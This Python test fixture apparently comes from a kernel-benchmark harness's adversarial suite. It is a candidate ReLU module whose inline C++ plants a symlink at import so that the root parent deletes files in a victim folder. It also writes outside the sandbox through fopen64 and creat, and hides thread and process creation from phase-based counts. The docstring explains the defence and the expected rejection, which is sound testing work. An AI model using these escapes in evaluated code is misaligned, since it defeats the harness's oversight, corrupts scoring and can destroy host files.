"""Attack: reach the host from the build step. At import, in the compile child, the kernel library plants
a link in the build folder (`$TORCH_EXTENSIONS_DIR/planted`) to a folder outside every sandbox, filled in
by the test (`@VICTIM_DIR@`). The parent used to remove torch's stale build batons (`ext/*/lock`) as root
before the next compile of the same entry, following the link: `@VICTIM_DIR@/lock` was deleted. A second
file over the same build (`@VARIANT@` changes only Python) starts that next compile.

Defence: the compile child builds in a private folder mounted at the entry's path; the parent brings back
regular files and folders only, never following a link (kernelbench.harness.build.build_tree.import_tree), and removes
nothing in a candidate-writable tree. Static `cpp_io_or_syscalls` (`symlink`, `getenv`) stops it earlier.
Expected: rejected, static:cpp_io_or_syscalls; static off: correct (an honest ReLU besides), and the victim
folder's files all survive.
"""
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

# The suite's second sandbox library (tests/test_adversarial.py): these candidates differ only in what
# their Python calls. This file's attack is the call below.
cpp_source = r"""
#include <torch/extension.h>
#include <c10/core/thread_pool.h>
#include <atomic>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <thread>
#include <threads.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <fcntl.h>
#include <unistd.h>
#include <sys/wait.h>

static void relu_range(const float* in, float* out, int64_t begin, int64_t end) {
    for (int64_t i = begin; i < end; ++i) out[i] = in[i] < 0.0f ? 0.0f : in[i];
}

static std::atomic<int> ran{0};
static int c11_body(void*) { ran++; return 0; }
static void* posix_body(void*) { ran++; return nullptr; }
static int clone_body(void*) { return 0; }

// Starts a task by each route in turn and joins it at once: a thread count taken between phases never
// sees one. Refuses to compute unless every route worked, so a harness that lets one through gives credit.
torch::Tensor relu_after_hidden_tasks(torch::Tensor x) {
    std::string refused;
    thrd_t c11;
    if (thrd_create(&c11, c11_body, nullptr) == thrd_success) thrd_join(c11, nullptr); else refused += " thrd_create";
    pthread_t posix;
    if (pthread_create(&posix, nullptr, posix_body, nullptr) == 0) pthread_join(posix, nullptr); else refused += " pthread_create";
    try { std::thread t([] { ran++; }); t.join(); } catch (const std::exception&) { refused += " std::thread"; }
    static char stack[1 << 16];
    const int pid = clone(clone_body, stack + sizeof stack, SIGCHLD, nullptr);
    if (pid > 0) waitpid(pid, nullptr, 0); else refused += " clone";
    const pid_t forked = _Fork();
    if (forked == 0) _exit(0);
    if (forked > 0) waitpid(forked, nullptr, 0); else refused += " _Fork";
    try {
        c10::ThreadPool pool(2);
        pool.run([] { ran++; });
        pool.waitWorkComplete();
    } catch (const std::exception&) { refused += " c10::ThreadPool"; }
    TORCH_CHECK(refused.empty(), "thread creation refused:", refused);
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    relu_range(xc.data_ptr<float>(), y.data_ptr<float>(), 0, xc.numel());
    return y;
}

// The large-file and creation spellings the file rule missed: fopen64 and creat.
torch::Tensor relu_if_escaped64(torch::Tensor x, const std::string& host_tmp_file, const std::string& repo_file) {
    FILE* f = fopen64(host_tmp_file.c_str(), "w");
    if (f != nullptr) { fputs("written from inside the sandbox\n", f); fclose(f); }
    const int fd = creat(repo_file.c_str(), 0644);
    if (fd >= 0) { write(fd, "written from inside the sandbox\n", 32); close(fd); }
    TORCH_CHECK(f != nullptr && fd >= 0, "could not write outside the sandbox");
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    relu_range(xc.data_ptr<float>(), y.data_ptr<float>(), 0, xc.numel());
    return y;
}

// Called at import, in the compile child: a link in the build folder to a folder outside every sandbox.
// The parent later cleaned `ext/*/lock` as root and followed it.
int64_t plant_build_link(const std::string& target) {
    const char* dir = std::getenv("TORCH_EXTENSIONS_DIR");
    if (dir == nullptr) return -1;
    const std::string link = std::string(dir) + "/planted";
    unlink(link.c_str());
    return symlink(target.c_str(), link.c_str());
}

torch::Tensor relu_forward(torch::Tensor x) {
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    relu_range(xc.data_ptr<float>(), y.data_ptr<float>(), 0, xc.numel());
    return y;
}
"""

ext = load_inline(name="adv_integrity", cpp_sources=[cpp_source],
    functions=["relu_after_hidden_tasks", "relu_if_escaped64", "plant_build_link", "relu_forward"])

PLANTED = ext.plant_build_link("@VICTIM_DIR@")
VARIANT = "@VARIANT@"


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return ext.relu_forward(x)
